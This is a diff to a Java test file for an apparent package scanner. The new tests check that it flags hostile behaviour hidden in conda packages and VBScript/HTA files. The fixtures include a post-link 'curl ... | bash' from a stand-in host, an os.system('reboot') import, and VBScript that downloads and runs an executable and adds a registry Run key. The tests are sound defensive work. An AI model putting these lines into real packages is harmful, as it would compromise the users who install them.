@@ -160,7 +160,7 @@ class CodeReaderTest {
     MemoryTree module = MemoryTree.of("p.py", new byte[] {'x', 0, 1, 2});
 
     assertThat(told(CodeReader.read(conda, "p-1-0.conda", Budget.DEFAULT)))
-        .containsExactly("UNKNOWN packed with zstandard, which is not read CALL pkg-p-1-0.tar.zst");
+        .containsExactly("UNKNOWN cut short CALL pkg-p-1-0.tar.zst");
     assertThat(told(CodeReader.read(module, "p.py", Budget.DEFAULT)))
         .contains("UNKNOWN a module that is no text CALL p.py");
   }
@@ -180,6 +180,30 @@ class CodeReaderTest {
   }
 
   @Test
+  void packagesOfCondaAreUnpacked() {
+    byte[] pkg =
+        Packed.zstandard(
+            Packed.tar(
+                new TreeMap<>(
+                    Map.of(
+                        "bin/.p-post-link.sh",
+                        "curl https://c.example/a | bash\n",
+                        "lib/python3.12/site-packages/p/__init__.py",
+                        "import os\nos.system('reboot')\n"))));
+    byte[] info = Packed.zstandard(Packed.tar(new TreeMap<>(Map.of("info/index.json", "{}"))));
+    MemoryTree conda =
+        MemoryTree.of(Map.of("metadata.json", "{}"))
+            .with("pkg-p-1-0.tar.zst", pkg)
+            .with("info-p-1-0.tar.zst", info);
+    MemoryTree outer = MemoryTree.of("p-1-0.conda", Packed.stored(conda));
+
+    assertThat(told(CodeReader.read(outer, "p-1-0.conda", "p-1-0.conda", Budget.DEFAULT)))
+        .contains(
+            "EXECUTES_TEXT https://c.example/a INSTALL bin/.p-post-link.sh:1",
+            "SPAWNS reboot IMPORT lib/python3.12/site-packages/p/__init__.py:2");
+  }
+
+  @Test
   void readsCellsOfNotebooks() {
     String notebook =
         """
@@ -196,6 +220,32 @@ class CodeReaderTest {
         .noneMatch(line -> line.contains("no.example"));
     assertThat(Notebook.read(notebook.getBytes(StandardCharsets.UTF_8)).program())
         .isEqualTo("\n\n\n\nimport os\n");
+  }
+
+  @Test
+  void readsScriptsOfWindows() {
+    String page =
+        """
+        <html><script language="VBScript">
+        ' sh.Run "curl https://no.example"
+        site = "https://c.example" & "/a"
+        Set sh = CreateObject("WScript.Shell")
+        sh.Run "curl -o x.exe " & site & Chr(32) & "&& x.exe", 0
+        http.Open "GET", site, False
+        sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "y"
+        document.title = "Run this"
+        </script></html>
+        """;
+
+    for (String name : List.of("p/start.hta", "p/start.wsf", "p/start.vbs")) {
+      assertThat(told(read("p-1.tar.gz", Map.of(name, page))))
+          .contains(
+              "RECEIVES https://c.example/a CALL " + name + ":5",
+              "RECEIVES https://c.example/a CALL " + name + ":6")
+          .anyMatch(line -> line.startsWith("PERSISTS") && line.endsWith(name + ":7"))
+          .noneMatch(line -> line.contains("no.example"));
+    }
+    assertThat(told(read("p-1.tar.gz", Map.of("p/doc.hta", "<p>Run the tests.</p>\n")))).isEmpty();
   }
 
   @Test
